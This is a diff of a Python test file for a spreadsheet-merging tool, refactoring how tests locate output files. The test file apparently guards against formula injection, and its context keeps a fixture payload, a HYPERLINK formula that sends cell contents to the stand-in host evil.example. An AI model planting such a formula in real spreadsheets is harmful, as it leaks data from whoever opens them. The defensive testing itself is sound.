@@ -13,7 +13,8 @@ from lxml import html
 
 from disclosure_batch.outputs.marked import ENDING as MARKED
 from disclosure_batch.outputs.marking import is_harmless
-from tests.district import FORM, YEAR, District, Run, cell_of
+from tests.district import FORM, YEAR, District, cell_of
+from tests.run import Run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"请点击")'
 NAMES = {
@@ -51,7 +52,7 @@ def run(tmp_path_factory) -> Run:
     for code, name in FILE_NAMES.items():
         (path,) = district.received.glob(f"{code}_*") or [None]
         path.rename(path.with_name(f"{name}.xlsx".replace("/", "／")))
-    return district.merge("--on-error", "include", "--year", str(YEAR), roster=False, receive=False)
+    return district.merge("--on-error", "include", "--year", str(YEAR), roster=False, receive=False, whole=True)
 
 
 def _string(cell, text: str) -> None:
@@ -111,7 +112,7 @@ def test_what_a_formula_may_do(formula, harmless):
 
 
 def test_the_consolidated_workbook_says_their_words(run: Run):
-    book = openpyxl.load_workbook(run.folder / "汇总表.xlsx")
+    book = openpyxl.load_workbook(run.product("汇总表.xlsx"))
     words = [str(cell.value) for page in book.worksheets for row in page.iter_rows() for cell in row if cell.data_type in "si"]
     assert any(FORMULA in text for text in words)
 
@@ -142,7 +143,7 @@ def test_no_field_of_a_document_is_theirs(run: Run):
 
 
 def test_no_cell_of_the_data_begins_a_formula(run: Run):
-    with (run.folder / "数据.csv").open(encoding="utf-8-sig", newline="") as file:
+    with run.product("数据.csv").open(encoding="utf-8-sig", newline="") as file:
         for row in csv.reader(file):
             for cell in row:
                 assert not re.match(r"[=+@\t\r]|-(?!\d)", cell), row
